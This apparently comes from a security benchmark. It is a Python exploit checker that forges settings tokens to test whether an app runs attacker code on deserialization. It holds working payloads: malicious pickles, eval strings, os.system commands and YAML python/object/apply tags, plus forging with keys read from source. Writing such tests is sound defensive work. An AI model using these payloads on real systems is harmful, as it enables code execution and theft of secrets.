"""Does a token of the attacker's own run code when it is restored? A valid token is taken apart, its content replaced
by an attack, and the token built again: with its checksum, or with its signature where the key can be read in the
program's source. An attack has worked when a file appeared that no settings make."""

from __future__ import annotations

import base64
import itertools
import json
import re
from collections.abc import Iterable, Iterator

from weighbridge.tasks.oracle import App, Proof, exploit, mark, told, works
from weighbridge.tasks.payloads import pickles, template, wrapping

SECRET = "/srv/data/secret.txt"
COMMON = {b"utf-8", b"utf8", b"ascii", b"latin-1", b"rb", b"wb", b"base64", b"hex"}
"""Texts of many programs that are no keys of a document."""


def seed(nonce: str) -> dict[str, bytes | None]:
    return {SECRET: f"{nonce}\n".encode()}


def functional(app: App) -> None:
    for settings in (
        {"theme": "dark", "size": 14, "scale": 1.25, "beta": True, "name": None},
        {"columns": ["name", "price"], "filters": {"colour": "red", "limits": [1, 20]}},
        {"greeting": f"Hello, wörld! {mark(app.nonce, 'greeting')}", "path": "a/b;c=d \"quoted\" 'too'"},
        {},
    ):
        token = app.call("save_settings", settings)
        works(isinstance(token, str), "save_settings returns a string")
        works(app.call("load_settings", token) == settings, "load_settings returns what save_settings was given")


def _valid(app: App) -> bytes:
    token = app.attempt("save_settings", {"theme": "dark", "size": 14})
    return token.encode("utf-8", "replace") if isinstance(token, str) else b""


def _text(token: bytes) -> str:
    try:
        return token.decode()
    except UnicodeDecodeError:
        return token.decode("latin-1")


def _made_file(app: App, tokens: Iterable[bytes], cwe: int) -> Proof | None:
    hit = _hit(app)
    for token in tokens:
        answer = app.attempt("load_settings", _text(token))
        if app.exists(hit):
            return Proof(cwe, app.asked[-1][:1500], f"restoring the token ran code: the file {hit} appeared")
        if app.nonce in told(answer):
            return Proof(cwe, app.asked[-1][:1500], f"restoring the token ran code: the content of {SECRET} came back")
    return None


def _hit(app: App) -> str:
    return f"/srv/data/{mark(app.nonce, 'hit')}"


def _rebuilt(layers: Iterable[wrapping.Layer], contents: Iterable[bytes]) -> Iterator[bytes]:
    contents = list(contents)
    for layer in layers:
        for content in contents:
            try:
                yield layer.build(content)
            except ValueError:
                continue


def _attacks(app: App, layers: Iterable[wrapping.Layer]) -> Iterator[bytes]:
    """Pickles where a pickle was (each ends with a full stop), code where there was text."""
    for layer in layers:
        if layer.content.endswith(b"."):
            yield from _rebuilt([layer], pickles.planting(_hit(app)))
        if _is_text(layer.content):
            yield from _rebuilt([layer], _code(app))


def _is_text(content: bytes) -> bool:
    return not re.search(rb"[\x00-\x08\x0e-\x1f\x80-\xff]", content)


def _code(app: App) -> list[bytes]:
    """Texts that run as code where a program takes them for its own: an expression, a value in a dictionary, lines of a
    module, or a YAML document with Python tags."""
    hit = _hit(app)
    builtin, alone = template.python_with_builtins(hit, SECRET), template.python_without_builtins(hit)
    expressions = [*builtin[:6], builtin[10], *alone]
    texts = [*expressions, *("{'theme': " + one + "}" for one in expressions)]
    texts += [text for one in alone[:2] for text in template.disguised("{'theme': " + one + "}")]
    texts += [f"import os\nos.system('>{hit}')", f"settings = {{}}\n{builtin[0]}", f"theme = {builtin[0]}"]
    texts += [f"!!python/object/apply:os.system ['>{hit}']", f"!!python/object/apply:builtins.open ['{hit}', w]"]
    return [text.encode() for text in texts]


def _unsigned(app: App) -> list[wrapping.Layer]:
    return [layer for layer in wrapping.peel(_valid(app)) if layer.key is None]


@exploit(cwe=502)
def exploit_pickle(app: App) -> Proof | None:
    attacks = list(pickles.planting(_hit(app)))
    plain = [base64.b64encode(attacks[1]), base64.urlsafe_b64encode(attacks[1]), attacks[1].hex().encode(), attacks[0]]
    return _made_file(
        app, [*plain, *_rebuilt((one for one in _unsigned(app) if one.content.endswith(b".")), attacks)], 502
    )


@exploit(cwe=502)
def exploit_checksum(app: App) -> Proof | None:
    """The token carries a checksum without a key, which anybody can make again."""
    layers = [layer for layer in wrapping.peel(_valid(app)) if layer.key == b""]
    return _made_file(app, _attacks(app, layers), 502)


@exploit(cwe=95)
def exploit_code(app: App) -> Proof | None:
    return _made_file(app, _rebuilt((one for one in _unsigned(app) if _is_text(one.content)), _code(app)), 95)


@exploit(cwe=502)
def exploit_class_names(app: App) -> Proof | None:
    """The token is JSON that names what is to be called; which keys it does that with stands in the source."""
    source = app.read("/srv/app/main.py") or b""
    if not re.search(rb"getattr|__import__|import_module|globals\(|locate\(", source):
        return None
    names = [
        one.decode()
        for one in wrapping.literals(source)
        if one not in COMMON and re.fullmatch(rb"[\w/$@!-]{2,20}", one)
    ][:9]
    command = f">{_hit(app)}"
    objects: list[dict[str, object]] = []
    for arguments in ([command], command, {"command": command}):
        for one, two in itertools.permutations(names, 2):
            objects += [{one: target, two: arguments} for target in ("os.system", "os:system")]
        objects += [{a: "os", b: "system", c: arguments} for a, b, c in itertools.permutations(names, 3)]
    contents = [json.dumps(shape).encode() for one in objects for shape in (one, {"theme": one})]
    layers = [layer for layer in _unsigned(app) if _is_json(layer.content)][:1]
    return _made_file(app, _rebuilt(layers, contents), 502)


def _is_json(content: bytes) -> bool:
    try:
        return isinstance(json.loads(content), (dict, list))
    except (ValueError, RecursionError):
        return False


@exploit(cwe=798)
def exploit_key_in_source(app: App) -> Proof | None:
    """The token is signed, with a key that stands in the source."""
    keys = wrapping.literals(app.read("/srv/app/main.py") or b"")
    layers = [layer for layer in wrapping.peel(_valid(app), keys) if layer.key]
    return _made_file(app, _attacks(app, layers), 798)
